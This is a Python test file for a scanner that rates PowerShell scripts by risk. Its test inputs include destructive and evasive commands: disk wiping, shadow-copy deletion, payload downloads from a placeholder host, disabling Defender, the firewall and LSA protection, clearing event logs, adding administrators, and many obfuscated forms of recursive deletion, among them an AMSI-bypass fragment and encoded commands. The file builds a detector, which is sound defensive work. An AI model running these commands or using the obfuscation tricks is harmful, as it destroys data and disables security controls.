"""What is seen in PowerShell, however it is written."""

from __future__ import annotations

import base64

import pytest

from core.scripts.preflight.findings import Risk, Severity
from tests.unit.scripts.preflight.looking import finding, powershell, rules

HIGH = Severity.HIGH


@pytest.mark.parametrize(
    ("script", "rule"),
    [
        ("Format-Volume -DriveLetter D", "wipes-disk"),
        ("Remove-ADUser -Identity jdoe", "deletes-accounts"),
        ("Remove-Mailbox jdoe@example.com", "deletes-mail"),
        ("vssadmin delete shadows /all", "deletes-shadows"),
        ("C:\\Windows\\System32\\bcdedit.exe /set testsigning on", "boot-changed"),
        ("cipher /w:C", "overwrites"),
        ("certutil -urlcache -f http://x.example/a.exe a.exe", "download"),
        ("bitsadmin /transfer j http://x.example/a.exe C:\\a.exe", "download"),
        ("Set-ExecutionPolicy Unrestricted", "execution-policy"),
        ("Set-MpPreference -DisableRealtimeMonitoring 1", "defender-off"),
        ("Set-NetFirewallProfile -All -Enabled False", "firewall-off"),
        ("Add-LocalGroupMember -Group Administrators -Member bob", "adds-admin"),
        ("Add-ADGroupMember 'Domain Admins' bob", "adds-domain-admin"),
        ("Clear-EventLog -LogName Security", "logs-cleared"),
        ("Disable-BitLocker -MountPoint C:", "bitlocker-off"),
        ("Add-Type -MemberDefinition $code -Name N -Namespace X", "compiles-code"),
        ("iex $code", "runs-text"),
        ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v A /d a.exe",
         "run-key"),
        ("Set-ItemProperty HKLM:\\SYSTEM\\CurrentControlSet\\Control\\Lsa RunAsPPL 0",
         "plain-passwords"),
        ("Remove-Item -Path C:\\ -Recurse -Force", "deletes-wide"),
        ("Get-ChildItem C:\\Windows | Remove-Item -Force", "deletes-wide"),
        ("Get-ADUser -Filter * | Set-ADUser -Enabled $false", "unbounded"),
        ("Get-Mailbox | Set-Mailbox -HiddenFromAddressListsEnabled $true", "unbounded"),
        ("foreach ($m in Get-Mailbox -ResultSize Unlimited) { Disable-Mailbox $m }", "unbounded"),
        ("$all = Get-MgUser -All\n$all | % { Revoke-MgUserSignInSession -UserId $_.Id }",
         "unbounded"),
        ("Stop-Service WinDefend", "security-service-off"),
    ],
)  # fmt: skip
def test_sees_what_a_command_does(script: str, rule: str) -> None:
    assert rule in rules(powershell(script), HIGH)


@pytest.mark.parametrize(
    "script",
    [
        "& ('Remove' + '-Item') C:\\ -Recurse",
        "& \"Remove-$('Item')\" C:\\ -Recurse",
        "re`move-it`em C:\\ -Recurse",
        "Microsoft.PowerShell.Management\\Remove-Item C:\\ -Recurse",
        "ri C:\\ -r",
        "del C:\\ –Recurse",
        "$c = 'Remove-Item'; & $c C:\\ -Recurse",
        "$c = 'Remove'; $c += '-Item'; & $c C:\\ -Recurse",
        "Set-Alias zz Remove-Item\nzz C:\\ -Recurse",
        "&('{1}{0}' -f '-Item', 'Remove') C:\\ -Recurse",
        "& (-join ('Remove', '-', 'Item')) C:\\ -Recurse",
        "& ('Remove#Item'.Replace('#', '-')) C:\\ -Recurse",
        "Invoke-Expression 'Remove-Item C:\\ -Recurse'",
        "'Remove-Item C:\\ -Recurse' | iex",
        'powershell -Command "Remove-Item C:\\ -Recurse"',
        "Start-Process powershell -ArgumentList '-Command Remove-Item C:\\ -Recurse'",
        "cmd /c powershell -c Remove-Item C:\\ -Recurse",
        "Start-Job { Remove-Item C:\\ -Recurse }",
        "if ($true) { try { Remove-Item $env:SystemDrive\\ -Recurse } catch { } }",
    ],
)
def test_sees_the_same_command_however_it_is_written(script: str) -> None:
    assert "deletes-wide" in rules(powershell(script), HIGH)


def test_reads_an_encoded_command() -> None:
    encoded = base64.b64encode("Format-Volume -DriveLetter C".encode("utf-16-le")).decode()

    for switch in ("-EncodedCommand", "-enc", "-e", "-ec", "/enc"):
        found = rules(powershell(f"powershell.exe -NoProfile {switch} {encoded}"), HIGH)
        assert {"encoded-command", "wipes-disk"} <= found, switch


@pytest.mark.parametrize(
    "script",
    [
        "& ($a + $b) x",
        "& $table['x']",
        "& (Get-Variable x).Value",
        ".($env:ComSpec[4,24,25] -join '')",
        "$x = $a -replace 'q', 'i'; & $x.Substring(1)",
        "([scriptblock]::Create($text)).Invoke()",
        "$w.('Down' + 'loadString').Invoke('u')",
        "$n = [char]105 + [char]101 + [char]120 + [char]32",
        "$t = '{2}{0}{1}' -f 'a', 'b', 'c'",
        "[Ref].Assembly.GetType('System.Management.Automation.Am' + 'siUtils')",
        "[Reflection.Assembly]::Load($bytes)",
    ],
)
def test_hiding_is_a_high_risk_of_its_own(script: str) -> None:
    assert powershell(script).risk is Risk.HIGH


@pytest.mark.parametrize(
    "script",
    [
        '& "$env:ProgramFiles\\Contoso\\tool.exe" --help',
        "$tool = Join-Path $env:ProgramFiles 'Contoso\\tool.exe'\n& $tool",
        "$work = { Get-Date }\n& $work",
        "$letters = -join ((48..57) | Get-Random -Count 8 | ForEach-Object { [char]$_ })",
        "'{0}: {1}' -f 'a', 'b'",
        "$object.$name",
        "Set-ExecutionPolicy Bypass -Scope Process",
        "Get-ADUser -Filter \"Enabled -eq 'true'\" | Select-Object Name, SamAccountName",
        "Get-ADUser -Filter * -SearchBase 'OU=Leavers,DC=x' | Select-Object -First 5",
        "Remove-Item -Path $env:TEMP\\contoso -Recurse -Force",
        "Set-MpPreference -DisableRealtimeMonitoring $false",
        "# Remove-Item C:\\ -Recurse\nGet-Date",
        "Write-Output 'Remove-Item C:\\ -Recurse'",
    ],
)
def test_what_engineers_write_every_day_is_no_high_risk(script: str) -> None:
    preflight = powershell(script)

    assert preflight.risk < Risk.HIGH, preflight.findings
    assert preflight.complete


def test_starting_what_was_fetched_is_a_high_risk() -> None:
    fetch = "Invoke-WebRequest https://x.example/a.msi -OutFile $file\n"

    assert powershell(fetch).risk is Risk.LOW
    assert "download-and-run" in rules(powershell(fetch + "Start-Process $file"), HIGH)
    assert "download-and-run" in rules(powershell(fetch + "msiexec /i $file /qn"), HIGH)


def test_a_condition_takes_the_breadth_out_of_a_change() -> None:
    script = "Get-ADUser -Filter * | Where-Object { $_.Name -eq 'x' } | Disable-ADAccount"

    assert "unbounded" not in rules(powershell(script))
    assert finding(powershell(script), "changes-many").severity is Severity.LOW


def test_a_script_that_can_not_be_read_is_never_safe() -> None:
    preflight = powershell("Get-Date\nif ($x {\n  Get-Date\n")

    assert not preflight.complete
    assert preflight.why_incomplete == "Line 2 could not be read as PowerShell."
    assert preflight.risk is Risk.MEDIUM


def test_a_broken_script_still_shows_what_is_dangerous_in_it() -> None:
    preflight = powershell("if ($x {\n  Remove-ADUser jdoe\n")

    assert "deletes-accounts" in rules(preflight, HIGH)


def test_points_at_the_command() -> None:
    preflight = powershell("Get-Date\n  Format-Volume -DriveLetter D\n")

    wipes = finding(preflight, "wipes-disk")
    assert (wipes.line, wipes.column, wipes.length) == (2, 3, 28)


def test_points_at_the_text_that_holds_the_command() -> None:
    preflight = powershell("Get-Date\ncmd /c 'vssadmin delete shadows'")

    deletes = finding(preflight, "deletes-shadows")
    assert (deletes.line, deletes.column) == (2, 8)


def test_lists_of_bare_words_are_read() -> None:
    script = "Get-Process | Select-Object Name, Id,\n  CPU | Export-Csv $env:TEMP\\p.csv"

    assert powershell(script).complete


def test_whatif_lowers_nothing() -> None:
    assert "wipes-disk" in rules(powershell("Format-Volume -DriveLetter D -WhatIf"), HIGH)
